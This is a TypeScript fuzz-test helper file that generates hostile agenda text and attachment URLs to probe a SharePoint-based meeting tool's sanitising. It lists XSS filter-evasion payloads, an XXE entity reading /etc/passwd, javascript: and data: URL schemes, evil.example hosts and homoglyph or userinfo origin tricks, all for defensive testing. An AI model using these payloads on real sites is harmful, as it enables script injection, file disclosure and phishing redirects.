/** Hostile text and URLs for the fuzz suite: markup, script, event handlers, dangerous schemes, bidi, odd code units. */
import fc from "fast-check";
import { defaultFields } from "../../src/core";
import type { AgendaItem, ItemRecordFields } from "../../src/core";

/** Fixed seed so CI is repeatable; FUZZ_SEED overrides it to explore further. fast-check prints the seed on failure. */
export const FUZZ_SEED = Number(process.env.FUZZ_SEED ?? 20240419);

/** Cases per property in CI (issue 8: 1,000). */
export const FUZZ_RUNS = Number(process.env.FUZZ_RUNS ?? 1000);

/** Markup and script payloads that have broken real sanitisers or templates (OWASP XSS filter evasion, mXSS reports). */
export const MARKUP_PAYLOADS: readonly string[] = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  '<img src="x" onerror="alert(1)"/>',
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<a href="javascript:alert(1)">klicka</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  "<iframe src=//evil.example></iframe>",
  '<iframe srcdoc="<script>alert(1)</script>">',
  "<object data=x></object>",
  "<embed src=x>",
  '<form action="https://evil.example"><input name=p><button>OK</button></form>',
  "<style>*{display:none}</style>",
  '<div style="background:url(javascript:alert(1))">',
  '<body onload="alert(1)">',
  '<details open ontoggle="alert(1)">',
  '" onmouseover="alert(1)',
  "' autofocus onfocus='alert(1)",
  "x\" onclick=alert(1) y=\"",
  "</li></ol><script>alert(1)</script><ol><li>",
  "</p></div></body></html><script>alert(1)</script>",
  "</textarea><script>alert(1)</script>",
  "</title><script>alert(1)</script>",
  "<!-- sammantrade:kallelse:end -->",
  '<div id="sammantrade-kallelse">',
  "<!--",
  "-->",
  "<![CDATA[",
  "]]>",
  "<?xml version=\"1.0\"?>",
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
  "&e;",
  "&amp;",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;",
  "&#x3C;img src=x onerror=alert(1)&#x3E;",
  "<<script>script>alert(1)<</script>/script>",
  "<scr<script>ipt>alert(1)</script>",
  "<br/>",
  "<b>fet</b>",
  "<w:t>ord</w:t>",
  '</w:t></w:r><w:r><w:t xml:space="preserve">',
  "{{constructor.constructor('alert(1)')()}}",
  "${alert(1)}",
  "[Ort]",
  "**att** ",
  "att ",
  "samt att ",
];

/** Link payloads, including whitespace and entity obfuscation of the scheme. */
export const URL_PAYLOADS: readonly string[] = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  " javascript:alert(1)",
  "jav\tascript:alert(1)",
  "jav\nascript:alert(1)",
  "jav&#x09;ascript:alert(1)",
  "&#106;avascript:alert(1)",
  "java\u0000script:alert(1)",
  "\u0001javascript:alert(1)",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "data:text/html,<script>alert(1)</script>",
  "vbscript:msgbox(1)",
  "VBScript:msgbox(1)",
  "file:///etc/passwd",
  "//evil.example/x.pdf",
  "https:evil.example",
  "http://fh.sharepoint.com/sites/kd/x.pdf",
  "https://fh.sharepoint.com@evil.example/x.pdf",
  "https://user:pass@fh.sharepoint.com/x.pdf",
  "https://evil.example\\@fh.sharepoint.com/x.pdf",
  "https://fh.sharepoint.com\\@evil.example",
  "https://fh.sharepoint.com.evil.example/x.pdf",
  "https://fh.sharepoint.com:8443/x.pdf",
  "https://fh.sharepoint.com./x.pdf",
  "https://xn--fh-sharepint-xyz.com/x.pdf",
  "https://fh.sharepоint.com/x.pdf",
  "https://evil.example/x.pdf",
  'https://fh.sharepoint.com/x.pdf" onmouseover="alert(1)',
  "https://fh.sharepoint.com/x.pdf'><script>alert(1)</script>",
  "https://fh.sharepoint.com/sites/kd/M%C3%B6teshandlingar/2%20Utkast.pdf",
  "https://fh.sharepoint.com/sites/kd/Möteshandlingar/<b>.pdf",
  "",
  "   ",
];

/** Pieces that are not markup but still trip renderers: bidi overrides, scripts, combining marks, emoji, odd code units. */
export const TEXT_PIECES: readonly string[] = [
  "",
  " ",
  "\u202E",
  "\u202Etxt.exe",
  "\u2066\u2069\u200F\u200E",
  "مرحبا بالجميع",
  "שלום לכולם",
  "e\u0301",
  "Z\u0334\u0327\u031B\u0353\u0300\u0301\u0302",
  "Ärende – Åtgärd för Öresund",
  "👩‍👩‍👧‍👦",
  "🇸🇪",
  "👍🏽",
  "\uD800",
  "\uDFFF",
  "\uDBFF\uDFFF",
  "\u0000",
  "\u0007",
  "\u001B[31m",
  "\u007F",
  "\u0085",
  "\r\n",
  "\r",
  "\t",
  "\u2028",
  "\u2029",
  "\u00A0",
  "\uFEFF",
  "\uFFFE",
  "\uFFFF",
  "\u200B",
];

const piece: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...MARKUP_PAYLOADS) },
  { weight: 2, arbitrary: fc.constantFrom(...URL_PAYLOADS) },
  { weight: 4, arbitrary: fc.constantFrom(...TEXT_PIECES) },
  { weight: 3, arbitrary: fc.string({ maxLength: 12 }) },
  // Any UTF-16 code units, lone surrogates included.
  { weight: 2, arbitrary: fc.string({ unit: "binary", maxLength: 12 }) },
  { weight: 1, arbitrary: fc.string({ unit: "grapheme", maxLength: 6 }) },
);

/** Very long text (10,000+ characters): a payload repeated, so size limits and regexes are exercised. */
export const longText: fc.Arbitrary<string> = fc
  .tuple(fc.constantFrom(...MARKUP_PAYLOADS, ...TEXT_PIECES.filter((p) => p !== "")), fc.integer({ min: 10_000, max: 14_000 }))
  .map(([p, size]) => p.repeat(Math.ceil(size / p.length)));

/** A hostile text field: mostly short mixes of the pieces above, sometimes empty, sometimes 10k+ characters. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 12, arbitrary: fc.array(piece, { minLength: 1, maxLength: 6 }).map((parts) => parts.join("")) },
  { weight: 1, arbitrary: fc.constant("") },
  { weight: 1, arbitrary: longText },
);

/** A hostile file name as SharePoint might return it: maybe an item prefix, hostile middle, maybe an extension. */
export const hostileFileName: fc.Arbitrary<string> = fc
  .tuple(fc.constantFrom("", "2 ", "3-", "4_", "12 - "), hostileText, fc.constantFrom("", ".pdf", ".docx", ".xlsx"))
  .map(([prefix, middle, ext]) => `${prefix}${middle}${ext}`);

// Latin letters and their Cyrillic or Greek look-alikes: a host that reads as the tenant's but is another (IDN).
const HOMOGLYPHS: Record<string, string[]> = { a: ["а", "α"], e: ["е"], o: ["о", "ο"], p: ["р"], c: ["с"], i: ["і"], n: ["п"], h: ["һ"], t: ["т"] };

/** Characters and strings that change where a URL goes when slipped into its authority. */
const AUTHORITY_TRICKS = ["@", "\\", "\\@", ".", ":", ":443", ":8443", ":0", "%2e", "%40", "\uFF0E", "\u3002", "\u200B", "\u202E", "/", "#", "?", " ", "\t", "xn--", ".evil.example", "@evil.example"];

/**
 * Addresses aimed at the tenant's origin by every trick that moves them elsewhere: foreign hosts, look-alike suffixes
 * and prefixes, homoglyph (IDN) and punycode hosts, userinfo before or after the tenant, backslashes, ports, scheme
 * changes, and a trick character slipped in at any place of an otherwise good address.
 */
export function originTricks(sharePointOrigin: string): fc.Arbitrary<string> {
  const { protocol, host, hostname } = new URL(sharePointOrigin);
  const path = fc.constantFrom("/sites/kd/x.pdf", "/", "", "/sites/kd/M%C3%B6teshandlingar/2%20Utkast.pdf?web=1", "#x");
  const foreign = fc.domain();
  const homoglyph = fc
    .tuple(fc.nat(), fc.nat())
    .map(([at, pick]) => {
      const positions = [...hostname].map((ch, i) => (HOMOGLYPHS[ch] ? i : -1)).filter((i) => i >= 0);
      if (positions.length === 0) return `${protocol}//${hostname}x`;
      const i = positions[at % positions.length]!;
      const options = HOMOGLYPHS[hostname[i]!]!;
      return `${protocol}//${hostname.slice(0, i)}${options[pick % options.length]!}${hostname.slice(i + 1)}${host.slice(hostname.length)}`;
    });
  const otherScheme = protocol === "https:" ? "http:" : "https:";
  const built = fc.oneof(
    foreign.map((d) => `https://${d}`),
    foreign.map((d) => `${sharePointOrigin}.${d}`),
    foreign.map((d) => `${protocol}//${d.replace(/\./g, "-")}-${host}`),
    foreign.map((d) => `${protocol}//${host}@${d}`),
    foreign.map((d) => `${protocol}//${d}@${host}`),
    fc.constant("https://sharepoint.com@evil.example"),
    foreign.map((d) => `${protocol}//${host}\\@${d}`),
    foreign.map((d) => `${protocol}\\\\${d}`),
    foreign.map((d) => `${protocol}//${d}\\${host}`),
    fc.integer({ min: 0, max: 65535 }).map((port) => `${protocol}//${hostname}:${port}`),
    fc.constantFrom(`${otherScheme}//${host}`, `${protocol}${host}`, `${protocol}/${host}`, `${protocol}///${host}`, `${protocol}//${hostname}.`, `//${host}`),
    homoglyph,
    homoglyph.map((url) => {
      try {
        return new URL(url).origin; // the same look-alike in its punycode (xn--) form
      } catch {
        return url;
      }
    }),
  );
  const slipped = fc
    .tuple(fc.nat({ max: sharePointOrigin.length + 4 }), fc.constantFrom(...AUTHORITY_TRICKS), path)
    .map(([at, trick, p]) => {
      const good = `${sharePointOrigin}${p}`;
      return `${good.slice(0, at)}${trick}${good.slice(at)}`;
    });
  return fc.oneof({ weight: 3, arbitrary: fc.tuple(built, path).map(([base, p]) => `${base}${p}`) }, { weight: 3, arbitrary: slipped });
}

/** A hostile bilaga address aimed at the given SharePoint origin: bad schemes, origin tricks, random URLs, hostile text, and good addresses. */
export function hostileUrlOn(sharePointOrigin: string): fc.Arbitrary<string> {
  const host = new URL(sharePointOrigin).host;
  const aimed = (url: string): string => url.replaceAll("fh.sharepoint.com", host);
  return fc.oneof(
    { weight: 4, arbitrary: fc.constantFrom(...URL_PAYLOADS.map(aimed)) },
    { weight: 4, arbitrary: originTricks(sharePointOrigin) },
    { weight: 2, arbitrary: fc.webUrl({ withQueryParameters: true, withFragments: true }) },
    { weight: 2, arbitrary: hostileText.map((t) => `${sharePointOrigin}/sites/kd/${t}`) },
    { weight: 2, arbitrary: fc.webPath().map((p) => `${sharePointOrigin}${p}`) },
    { weight: 1, arbitrary: hostileText },
  );
}

/** Hostile bilaga addresses aimed at the test tenant https://fh.sharepoint.com. */
export const hostileUrl: fc.Arbitrary<string> = hostileUrlOn("https://fh.sharepoint.com");

/** Whitespace collapsed and trimmed: how text compares once HTML or Word has laid it out. */
export function collapse(text: string): string {
  return text.replace(/\s+/g, " ").trim();
}

/** The text as well-formed Unicode (each lone surrogate U+FFFD), by the engine's own String.prototype.toWellFormed. */
export function toWellFormed(text: string): string {
  return (text as unknown as { toWellFormed(): string }).toWellFormed();
}

/** The fields of an agenda item a fuzz case generates; ids, numbers and the optional columns are filled in. */
export type FuzzAgendaFields = Omit<AgendaItem, "id" | "etag" | "meetingKey" | "sortKey" | "itemNumber" | "number" | "description" | "startTime" | "attachments" | keyof ItemRecordFields> &
  Partial<Pick<AgendaItem, "description" | "startTime" | keyof ItemRecordFields>> & { attachments: { name: string; webUrl: string }[] };

/** Agenda items in the order given, numbered 1..n, with bilagor numbered 1..N across the meeting as buildAgenda does. */
export function toAgendaItems(items: readonly FuzzAgendaFields[], meetingKey: string): AgendaItem[] {
  let next = 1;
  return items.map(
    (item, index): AgendaItem => ({
      ...defaultFields(),
      id: `item-${index}`,
      etag: `"${index}"`,
      meetingKey,
      sortKey: index + 1,
      itemNumber: null,
      number: index + 1,
      description: "",
      startTime: null,
      ...item,
      attachments: item.attachments.map((a, j) => ({ number: next++, fileId: `f${index}-${j}`, name: a.name, webUrl: a.webUrl })),
    }),
  );
}
